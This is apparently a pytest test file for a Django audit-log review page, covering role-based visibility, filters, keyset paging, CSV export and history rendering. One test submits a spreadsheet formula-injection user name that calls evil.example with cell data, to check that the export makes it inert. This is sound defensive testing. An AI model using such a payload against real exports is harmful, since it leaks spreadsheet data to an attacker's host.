"""The review page: who sees what, the filters, keyset pages, the CSV of the filtered view, and a page's cost."""

import csv
import io

import pytest
from django.template import Context, Template
from django.test import Client, RequestFactory
from django.urls import reverse

from balloonweb.access.actors import Actor
from balloonweb.audit.log import record
from balloonweb.audit.models import AuditEntry
from balloonweb.audit.review import PAGE_SIZE
from tests.access.conftest import World, build_world


@pytest.fixture
def world(db) -> World:
    return build_world()


def entry_ids(response) -> list[int]:
    return [e.id for e in response.context["rows"]]


def test_who_may_review_what(world: World):
    record(Actor.command_line(), "domain.resize", world.da, message="in A")
    record(Actor.command_line(), "host.update", world.b1, message="in B")
    for role in ("viewer", "operator"):
        assert world.client(role).get(reverse("audit")).status_code == 403
    admin_a = world.client("admin").get(reverse("audit"))
    assert admin_a.status_code == 200
    assert {e.team_id for e in admin_a.context["rows"]} == {world.team_a.pk}
    assert "in A" in admin_a.content.decode() and "in B" not in admin_a.content.decode()
    everything = world.client("superuser").get(reverse("audit")).context["rows"]
    assert {"in A", "in B"} <= {e.message for e in everything}
    # Sign-ins belong to no team: superusers only.
    assert any(e.team_id is None for e in everything)


def test_filters(world: World):
    operator = Actor.for_user(world.users["operator"])
    record(operator, "domain.resize", world.da, result="refused", message="above the limit")
    record(operator, "domain.resize", world.da, result="accepted", message="ok")
    record(Actor.command_line(), "domain.floor", world.da, result="succeeded", message="floor")
    client = world.client("admin")

    def messages(**query):
        response = client.get(reverse("audit"), query)
        assert response.status_code == 200
        return [e.message for e in response.context["rows"]]

    assert messages(actor="operator") == ["ok", "above the limit"]
    assert messages(result="refused") == ["above the limit"]
    assert messages(action="domain.floor") == ["floor"]
    assert messages(action="domain.", domain=world.da.pk) == ["floor", "ok", "above the limit"]
    assert messages(q="LIMIT") == ["above the limit"]
    assert messages(host=world.b1.pk) == []
    assert messages(since="2000-01-01", until="2000-01-02") == []
    assert len(messages(since="2000-01-01")) >= 3
    assert client.get(reverse("audit"), {"team": "nope"}).context["rows"] == []
    # Names work as well as ids.
    assert messages(domain="da", result="refused") == ["above the limit"]
    assert messages(team="A", action="domain.floor") == ["floor"]


def test_keyset_pages(world: World, django_assert_max_num_queries):
    for i in range(PAGE_SIZE * 2 + 20):
        record(Actor.command_line(), "test.page", world.da, message=f"n{i}")
    client = world.client("superuser")
    first = client.get(reverse("audit"), {"action": "test.page"})
    cursor = first.context["next_cursor"]
    assert len(entry_ids(first)) == PAGE_SIZE and cursor == entry_ids(first)[-1]
    second = client.get(reverse("audit"), {"action": "test.page", "before": cursor})
    third = client.get(reverse("audit"), {"action": "test.page", "before": second.context["next_cursor"]})
    assert len(entry_ids(third)) == 20 and third.context["next_cursor"] is None
    all_ids = entry_ids(first) + entry_ids(second) + entry_ids(third)
    assert all_ids == sorted(all_ids, reverse=True) and len(set(all_ids)) == PAGE_SIZE * 2 + 20
    assert f"before={cursor}" in first.content.decode()
    # A page costs the same few queries however deep it is (session, user, roles, the page, names).
    with django_assert_max_num_queries(8):
        client.get(reverse("audit"), {"action": "test.page", "before": cursor})


def test_csv_of_the_filtered_view(world: World):
    record(Actor.command_line(), "domain.resize", world.da, after={"memory_kib": 524288}, message="one")
    record(Actor.command_line(), "domain.floor", world.da, message="two")
    response = world.client("admin").get(reverse("audit-export"), {"action": "domain.resize"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["message"] for r in rows] == ["one"] and rows[0]["after"] == '{"memory_kib": 524288}'
    assert list(rows[0]) == ["id", "at", "actor_kind", "actor_label", "actor_user_id", "action", "object_type", "object_id",
                             "object_repr", "team_id", "host_id", "domain_id", "before", "after", "result", "message",
                             "job_id", "request_id", "client_ip", "mac"]
    assert world.client("viewer").get(reverse("audit-export")).status_code == 403


def test_text_a_spreadsheet_would_run_as_a_formula_is_made_inert_in_the_download(world: World):
    """Anyone can type a user name at the sign-in page; the failure is audited with that name."""
    Client().post(reverse("login"), {"username": '=HYPERLINK("http://evil.example/?"&A1,"click")', "password": "x"})
    response = world.client("superuser").get(reverse("audit-export"), {"action": "auth.login_failed"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["actor_label"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert rows[0]["id"].isdigit()  # numbers are left as they are


def test_the_history_snippet_shows_an_objects_own_entries(world: World):
    record(Actor.command_line(), "domain.resize", world.da, before={"memory_kib": 1048576}, after={"memory_kib": 524288}, message="mine")
    record(Actor.command_line(), "host.update", world.b1, message="not mine")
    request = RequestFactory().get("/")
    request.actor = Actor.for_user(world.users["admin"])
    html = Template("{% load audit %}{% audit_history domain %}").render(Context({"domain": world.da, "request": request}))
    assert "mine" in html and "not mine" not in html and "memory 1,024 MiB → memory 512 MiB" in html
    assert f"?domain={world.da.pk}" in html


def test_the_history_shows_who_did_what_to_members_and_where_from_only_to_reviewers(world: World):
    """A viewer sees who resized the domain, but not the address the request came from, and not what another team
    did to a host before it was given to theirs."""
    operator = Actor.for_user(world.users["operator"], client_ip="203.0.113.7", request_id="req-abcdef123")
    record(operator, "domain.resize", world.da, message="shrunk")
    record(Actor.for_user(world.users["outsider"]), "host.update", world.b1, message="team B's change")
    world.b1.team = world.team_a
    world.b1.save()

    def history(who: str, obj) -> str:
        request = RequestFactory().get("/")
        request.actor = Actor.for_user(world.users[who])
        return Template("{% load audit %}{% audit_history obj %}").render(Context({"obj": obj, "request": request}))

    viewer = history("viewer", world.da)
    assert "shrunk" in viewer and "operator" in viewer and "203.0.113.7" not in viewer and "req-abcd" not in viewer
    admin = history("admin", world.da)
    assert "from 203.0.113.7" in admin and "req-abcd" in admin
    assert "team B&#x27;s change" not in history("admin", world.b1)
    assert "team B&#x27;s change" in history("superuser", world.b1)


def test_a_change_reads_as_words_not_as_python(world: World):
    """A host added without a team or a set capacity: the review page said "team_id None, capacity_kib None"."""
    record(Actor.command_line(), "host.add", world.a1,
           after={"name": "hv9", "team_id": None, "capacity_kib": None, "reserved_kib": 524288, "queue_group": ""})
    record(Actor.command_line(), "user.create", None, after={"user": "ann", "is_superuser": False, "is_active": True})
    page = world.client("superuser").get(reverse("audit")).content.decode()
    # PostgreSQL's jsonb keeps keys in its own order: each part is checked, not the sentence.
    for part in ("name hv9", "team none", "capacity none", "reserved 512 MiB", "queue group none", "user ann",
                 "is superuser no", "is active yes"):
        assert part in page, part
    assert "None" not in page and "True" not in page
